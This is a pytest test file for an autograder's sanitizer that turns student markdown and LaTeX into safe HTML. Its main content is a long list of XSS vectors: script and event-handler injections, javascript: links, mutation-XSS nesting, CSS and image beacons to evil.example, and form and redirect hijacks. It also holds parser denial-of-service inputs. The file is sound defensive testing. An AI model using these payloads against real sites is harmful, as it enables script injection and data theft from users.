"""Markdown that a student may have written, as HTML."""

import base64
import html as html_module
import re
import time

import html5lib  # the standard's parser
import nbformat
import pytest
from bs4 import BeautifulSoup
from test_feedback_clean import JPEG, png

from autograder.feedback import formulas
from autograder.feedback.markdown import safe_html
from tests.checkout import ROOT

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.png">',
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x](https://e.example "a\\" onload=alert(1)")',
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<svg><image href='https://evil.example/x'/></svg>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css); body{display:none}</style>",
    "<div style='position:fixed;background:url(https://evil.example)'>x</div>",
    "<div style='text-align:left;background:url(https://evil.example)'>x</div>",
    "<table><tr><td style='position:fixed;background:url(https://evil.example)'>x</td></tr></table>",
    "<div class='navbar-fixed-top modal-backdrop' id='statusmessage'>x</div>",
    "# statusmessage",
    "<form action=https://evil.example><input name=x><button>Save</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](files/javascript:alert(1))",
    "<a href='/files/javascript:alert(1)'>x</a>",
    "[x](../../formgrader/submissions/evil.html)",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<javascript:alert(1)>",
    "[x]\n\n[x]: javascript:alert(1)",
    "<b onmouseover=alert(1)>x</b>",
    "<details ontoggle=alert(1) open>x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "```html\n<script>alert(1)</script>\n```",
    '```<img src=x onerror=alert(1)>"\nx\n```',
    "```mermaid\n</pre><script>alert(1)</script>\n```",
    "$</script><script>alert(1)</script>$",
    "$$<img src=x onerror=alert(1)>$$",
    "\\begin{a}<img src=x onerror=alert(1)>\\end{a}",
    "|<script>alert(1)</script>|\n|--|\n|<img src=x onerror=alert(1)>|",
    "<video src=https://evil.example/x autoplay></video><audio src=x>",
    "<template><script>alert(1)</script></template>",
    "<img src='data:image/png;base64,AAAA' onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea></textarea><select></select>",
    # what parsers read in more than one way, and browsers in the worst
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\0<scr\0ipt>alert(1)</script>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</title></textarea></style></pre></div></div><script>alert(1)</script>",
    "<img\x0csrc=x\x0bonerror=alert(1)>",
    "<svg/onload=alert(1)//",
    "<style>*{background:url(https://evil.example/x)}",
    "<td style='text-align:expression(alert(1))'>x</td>",
    "<div style='text-align:left;-moz-binding:url(https://evil.example/x)'>x</div>",
    "<img srcset='https://evil.example/x 2x'>",
    "<a ping=https://evil.example/x href=https://ok.example>x</a>",
    "<q cite=https://evil.example/x>q</q>",
    "<a href='//evil.example/x'>x</a>",
    "<a name=top id=top>x</a>",
    "[![x](https://evil.example/x)](javascript:alert(1))",
    "![x][1]\n\n[1]: https://evil.example/x",
    "[x](java&Tab;script:alert(1))",
    "$$</span><img src=x onerror=alert(1)>$$",
    "\\[<script>alert(1)</script>\\]",
    "$\\href{x}{</script><script>alert(1)</script>}$",
    # formulas that become MathML
    "$\\href{javascript:alert(1)}{x}$",
    "$\\style{position:fixed;background:url(https://evil.example)}{x}$",
    "$\\class{navbar-fixed-top modal-backdrop}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\text{&lt;img src=x onerror=alert(1)&gt;&#60;script&#x3e;}$",
    "$\\text{</mtext></math><script>alert(1)</script>}$",
    "$\\text{<annotation-xml encoding=text/html><mglyph><malignmark><style>}$",
    "$\\unicode{x3c;<script>alert(1)</script>}$",
    "$\\operatorname{script} \\mathrm{<script>} \\mathop{<b>} \\verb|<script>| <script>$",
    '$\\color{red" onload="alert(1)}{x} \\colorbox{url(//evil.example)}{x}$',
    "$\\hspace{-99em}\\raise{9em}{x}\\rule{99em}{99em}\\llap{x}\\smash{x}\\Huge\\Huge x$",
    '$\\begin{array}{c" onload=alert(1)}x\\end{array}$',
    '<div><a title="\n\n$x$ $\\text{ onmouseover=x() }$\n\n<div title="" href="#a">x</a>',
    '<div><a href="https://ok.example/\n\n$x > y$\n\n<div title="">x</a>',
    "<style>$x$</style><svg><style>$x$<img src=x onerror=alert(1)></style></svg>",
    "<table>$x$<tr>$\\text{<table><td>}$<td>$$x$$</table>",
    # what reads as a tag of ours or of nobody's once it is decoded, closed or moved
    f'<a title="<summary><table>" href=#a>x</a><img alt="<table>" src="data:image/png;base64,{png()}">',
    '<img alt="x><script>alert(1)</script><img src=" title="><b onclick=alert(1)>">',
    "<img alt='x> src=' onerror=alert(1)><img alt='&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><svg><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<svg><foreignObject><math><mi><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=alert(1) src=1>'>",
    "<svg><desc><math><mtext></svg><img src=x onerror=alert(1)></mtext></math></desc>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a><use xlink:href='data:image/svg+xml,<svg/>#x'/></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)><animate attributeName=href values=javascript:alert(1)></svg>",
    "<math href=javascript:alert(1)><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<noscript><!--</noscript><img src=x onerror=alert(1)>--></noscript>",
    "<template><template shadowrootmode=open><img src=x onerror=alert(1)></template></template>",
    "<!-- --!><img src=x onerror=alert(1)> --><!--><!---><b>x</b>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp><plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img onerror=alert(1) src=x&gt;</listing><noembed><img src=x onerror=alert(1)></noembed>",
    "<table><caption><svg><style></caption><p title='</style></svg><img src=x onerror=alert(1)>'></table>",
    "<b OnClIcK=alert(1) ONMOUSEOVER=alert(1) on\nload=alert(1) onx\0=alert(1)>x</b><b/onclick=alert(1)>x</b>",
    "<button formaction=javascript:alert(1) form=f>x</button><input type=image src=//evil.example formaction=//evil.example>",
    "<meta http-equiv='Refresh' content='0;URL=javascript:alert(1)'><MeTa hTTp-eQUiv=set-cookie content=x>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a><a href='java&NewLine;script:alert(1)'>x</a><a href='\x01javascript:alert(1)'>x</a>",
    "<a href='https:evil.example' target=_top download=x>x</a><a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<p style='text-align:left/**/;pos\\69tion:fixed'>x</p><p style='text-align:left;}*{position:fixed'>x</p>",
    "<p style='text-align:url(//evil.example)'>x</p><p style='&#116;ext-align:center;width:url(//evil.example)'>x</p>",
    "<div is=x-y slot=s part=p popover contenteditable tabindex=1 accesskey=x data-toggle=modal data-target=#x>x</div>",
    "<details open=javascript:alert(1) name=x><summary id=y onclick=alert(1)>x</summary>x</details>",
    "<ol start='9999999'><li value=9><img width='1e9' height='100%' src='data:image/png;base64,'></ol>",
]
MATHML = "{http://www.w3.org/1998/Math/MathML}"
ADDRESSES = ("src", "srcset", "href", "action", "data", "poster", "background", "xlink:href", "formaction", "srcdoc")


def assert_harmless(html: str) -> None:
    """Nothing in this HTML runs, is fetched, or belongs to the page around it, read simply or as browsers read it."""
    as_in_browsers = html5lib.serialize(html5lib.parseFragment(html))
    elements = [e for text in (html, as_in_browsers) for e in BeautifulSoup(text, "html.parser").find_all(True)]
    for element in elements:
        assert element.name not in (
            "script", "iframe", "object", "embed", "link", "style", "meta", "base", "form", "input", "button", "svg",
            "annotation-xml", "mglyph", "malignmark", "maction", "video", "audio", "template", "textarea", "select", "noscript", "frame", "frameset",
        ), html  # fmt: skip
        for name, value in element.attrs.items():
            text = " ".join(value) if isinstance(value, list) else value
            if element.name in formulas.TAGS:
                assert re.fullmatch(formulas.ATTRIBUTES[name], text), html
            assert not name.startswith("on") and name != "id", html
            if name in ADDRESSES:
                picture = element.name == "img" and text.startswith("data:image/")
                assert picture or (element.name == "a" and text.startswith(("http", "mailto:", "#"))), html
                assert "svg" not in text, html
            assert name != "open" or not text, html
            if name == "style":
                assert "url" not in text and "position" not in text, html
            if name == "class":
                assert "navbar" not in text and "modal" not in text, html
    # formulas are as the browser reads them: no element inside one leaves MathML, no text is outside of its elements
    for math in html5lib.parseFragment(html).iter(f"{MATHML}math"):
        for element in math.iter():
            assert element.tag.removeprefix(MATHML) in formulas.TAGS, html
            assert not element.text or element.tag.removeprefix(MATHML) in formulas.TEXTS, html


@pytest.mark.parametrize("source", VECTORS)
def test_nothing_in_markdown_runs_or_is_fetched(source):
    """Typical vectors, in a paragraph of their own, inside a sentence, and in a list."""
    for text in (source, f"Answer: {source} so.", f"- {source}"):
        assert_harmless(safe_html(text))


def test_an_answer_keeps_its_form():
    """Emphasis, lists, tables, code, mathematics, links and collapsed details are what people write."""
    source = (
        "**a** *b* `c` ~~d~~ [paper](https://arxiv.org/abs/1706.03762)\n\n- one\n- two\n\n1. x\n2. y\n\n"
        "| h | k |\n|---|--:|\n| 1 | 2 |\n\n```python\nfor x in y: pass\n```\n\n$a < b$ and $$\\frac{1}{2}$$\n\n"
        "<details><summary>more</summary>\n\ninside\n\n</details>\n\n## Head\n\n> said\n\nif x<y and List<int> then"
    )
    page = BeautifulSoup(safe_html(source), "html.parser")
    kept = "strong, em, code, del, a, ul, ol, li, table, th, td, details, summary, h2, blockquote, pre, span"
    assert {element.name for element in page.find_all(True)} >= set(kept.split(", "))
    text = page.get_text()
    assert [math["display"] for math in page.find_all("math")] == ["inline", "block"]
    assert "a<b and 12" in text and "x<y and List<int> then" in text
    assert "¶" not in text
    assert page.find("a")["href"] == "https://arxiv.org/abs/1706.03762"
    assert "right" in page.find("td", style=True)["style"]
    assert page.find("span", class_="k").get_text() == "for"


def test_tables_have_lines_and_summaries_a_marker():
    """Nbgrader's page has no styles for bare ones; a text cannot have that markup put into an attribute of its own."""
    page = BeautifulSoup(safe_html("| a |\n|---|\n| b |\n\n<table><tr><td>c</td></tr></table>"), "html.parser")
    assert [table["class"][1] for table in page.find_all("table")] == ["table-bordered"] * 2
    assert "<summary>▸ more" in html_module.unescape(safe_html("<details><summary>more</summary>x</details>"))
    page = BeautifulSoup(safe_html("<a href=#a title='<table> <summary> <img alt=x>'>x</a>"), "html.parser")
    assert page.a["title"] == "<table> <summary> <img alt=x>" and page.a.get_text() == "x"


@pytest.mark.parametrize(
    ("style", "kept"),
    [("text-align:right", "text-align:right"), ("color:red; Text-Align : center", "text-align:center"),
     ("text-align:left;background:url(x)", "text-align:left"), ("text-align:url(x)", None),
     ("text-align:left/**/", None), ("--text-align:left", None), ("text-align:left!important", None)],
)  # fmt: skip
def test_of_styles_the_alignment_remains(style, kept):
    """In our own words; markdown's tables set it."""
    page = BeautifulSoup(safe_html(f'<div style="{style}">x</div>'), "html.parser")
    assert page.div.get("style") == kept


def test_tags_that_may_not_stand_are_shown_as_text():
    """`List<int>` in an answer is no markup, and nothing of an answer is lost."""
    source = "a List<int> b </int> <Foo x='1'> <aside>c</aside> <script>d</script> 1 <2 <- <b>bold</b>"
    page = BeautifulSoup(safe_html(source), "html.parser")
    assert page.get_text().strip() == source.replace("<b>", "").replace("</b>", "")
    assert [element.name for element in page.find_all(True)] == ["p", "b"]


def test_attached_pictures_are_shown_and_others_named():
    """A missing attachment must not keep the page from being made, as it does in nbconvert."""
    attachments = {"a.png": {"image/png": png()}, "b.jpg": {"image/jpeg": JPEG}, "c.svg": {"image/svg+xml": "x"}}
    html = safe_html("![one](attachment:a.png) ![two](attachment:b.jpg)", attachments)
    assert [image["alt"] for image in BeautifulSoup(html, "html.parser").find_all("img")] == ["one", "two"]
    for name in ("c.svg", "missing.png"):
        html = safe_html(f"![three](attachment:{name})", attachments)
        assert "[picture not shown: three]" in html and "<img" not in html


def test_a_picture_inside_raw_html_is_checked_too():
    """What a data address calls a PNG must be one, of bearable size."""
    assert "src=" in safe_html(f"<img src='data:image/png;base64,{png()}'>")
    for refused in (f"data:image/png;base64,{png(100_000, 100_000)}", "https://evil.example/x.png"):
        assert "[picture not shown]" in safe_html(f"a <img src='{refused}' alt=x> b")
        assert "[picture not shown]" in safe_html(f"a <img src='{refused}' alt='> src='> b")


def test_a_picture_that_a_text_names_very_often_is_shown_a_few_times():
    """Each time costs its whole length on the page."""
    picture = base64.b64encode(base64.b64decode(png()) + bytes(100_000)).decode()
    html = safe_html("![x](attachment:a) " * 800, {"a": {"image/png": picture}})
    assert html.count("<img") == 2**24 // len(picture) and "[picture not shown: x]" in html
    assert safe_html("![x](attachment:a) " * 5, {"a": {"image/png": picture}}, most=300_000).count("<img") == 2


LONG_PICTURE = base64.b64encode(base64.b64decode(png()) + bytes(7_500)).decode()


@pytest.mark.parametrize(
    "source",
    ["[x][a] " * 1_000 + f"\n\n[a]: https://example.org/{'A' * 10_000}\n",
     "![][a] " * 1_000 + f"\n\n[a]: data:image/png;base64,{LONG_PICTURE}\n"],
)  # fmt: skip
def test_an_address_that_a_text_refers_to_very_often_is_not_repeated(source):
    """Such text is shown as it was typed."""
    assert len(safe_html(source)) < 2**20


def test_markup_of_long_code_is_kept():
    """A cell of nothing but signs grows most by its colours."""
    source = f"```python\n{'x=+1;' * 3_900}\n```"
    assert '<span class="o">' in safe_html(source)


@pytest.mark.parametrize(
    "source",
    [
        "\\begin{a}" * 10_000,
        "<b>" * 6_000,
        "*a **a " * 30_000,
        "<b><p>" * 3_000,
        "[" * 19_000,
        f"${'{' * 990}$ " * 20,
        f"${'x_' * 490}$ " * 20,
        f"$\\operatorname{{{'a' * 970}$ " * 20,
        f"${'1' * 990}$ " * 20,
        ("$" + "&&\\\\" * 240 + "$ ") * 20,
        "$x$ " * 4_900,
        "$$" * 9_900,
        "$\\text{" * 2_400,
    ],
)
def test_hostile_text_costs_little_time(source):
    """Parsers of markdown and HTML can need quadratic time; text that is too long is shown as it was typed."""
    start = time.process_time()
    assert_harmless(safe_html(source))
    assert time.process_time() - start < 4


def test_long_text_is_shown_whole_and_as_typed():
    """Nothing of an answer is lost, only its form."""
    source = "*a* <b>b</b> " * 2_000
    page = BeautifulSoup(safe_html(source), "html.parser")
    assert page.get_text() == source and [element.name for element in page.find_all(True)] == ["pre"]


def test_every_formula_of_the_course_is_shown(monkeypatch):
    """As MathML, without any command left over."""
    seen = []
    mark = formulas.Formulas.mark
    monkeypatch.setattr(formulas.Formulas, "mark", lambda *typed, **kw: (seen.append(typed[1]), mark(*typed, **kw))[1])
    for notebook in sorted(ROOT.glob("release/*/*.ipynb")):
        for cell in nbformat.read(notebook, as_version=4).cells:
            if cell.cell_type == "markdown":
                before = len(seen)
                page = BeautifulSoup(safe_html(cell.source), "html.parser")
                assert len(page.find_all("math")) == len(seen) - before, cell.source
                assert not any("\\" in math.get_text() for math in page.find_all("math")), cell.source
    assert len(seen) > 70


def shown(source: str) -> str:
    """The one formula of this text as plain text, where rows begin with / and cells with |."""
    (math,) = BeautifulSoup(safe_html(source), "html.parser").find_all("math")
    for element in math.find_all(("mtr", "mtd")):
        element.insert(0, "/" if element.name == "mtr" else "|")
    return math.get_text()


@pytest.mark.parametrize(
    ("source", "text"),
    [
        ("$a<b$", "a<b"),
        ("\\\\(a_i\\\\)", "ai"),
        ("\\\\[\\text{if } x\\\\]", "if\xa0x"),
        ("\\begin{align}a&=b\\\\c&=d\\end{align}", "/|a|=b/|c|=d"),
        ("$$\\begin{gathered}a\\\\b\\end{gathered}$$", "/|a/|b"),
        ("\\begin{equation}x \\sim y\\end{equation}", "x∼y"),
        ("$\\arg\\max_i \\mathrm{logits}_i$", "argmaxilogitsi"),
        ("$\\boxed{\\text{&lt;b&gt;}}$", "<b>"),
    ],
)
def test_a_formula_shows_what_it_says(source, text):
    """Inline and apart, with environments that the converter does not know by themselves."""
    assert shown(source) == text


@pytest.mark.parametrize(
    "formula",
    [
        "\\nosuch x",
        "\\mathrm{\\nosuch x}",
        "x" * 1_001,
        "\\begin{nosuch}<b>\\end{nosuch}",
        "\\frac",
        "{" * 900,
        "\\def\\a{xx}\\a",
        "\\newcommand{\\a}{xx}\\newcommand{\\b}{\\a\\a}\\b",
    ],
)
def test_a_formula_that_cannot_be_shown_stands_as_typed(formula):
    """Nothing of it is lost, and nothing in it is markup."""
    page = BeautifulSoup(safe_html(f"so ${formula}$ is <b>it</b>"), "html.parser")
    assert page.get_text().strip() == f"so ${formula}$ is it"
    assert [element.name for element in page.find_all(True)] == ["p", "b"]


def test_formulas_of_one_cell_are_limited():
    """In number and in size; those that follow stand as typed."""
    assert safe_html("$x$ " * 300).count("<math") == formulas.FORMULAS
    many = safe_html(("$" + "\\," * 490 + "$\n\n") * 20)
    assert 1 < many.count("<math") < 20 and len(many) < formulas.MATHML_CHARACTERS + 30_000


def test_a_text_writes_no_mathml_itself():
    """Its own tags are shown, so that no text decides how a formula is read."""
    html = safe_html("<math><mtext>$x$</mtext></math> <mi>y</mi>")
    assert html.count("<math") == 1 and "&lt;math&gt;" in html and "&lt;mi&gt;" in html


def test_a_formula_inside_of_an_attribute_is_no_markup():
    """There the attribute goes; a picture's text has the formula as typed."""
    html = safe_html('<div><a title="\n\n$x$\n\n<div title="" href="#a">y</a>')
    assert '<a href="#a">y' in html and "<math" not in html
    html = safe_html("![a $x$ b](attachment:a)", {"a": {"image/png": png()}})
    assert 'alt="a $x$ b"' in html and "<math" not in html
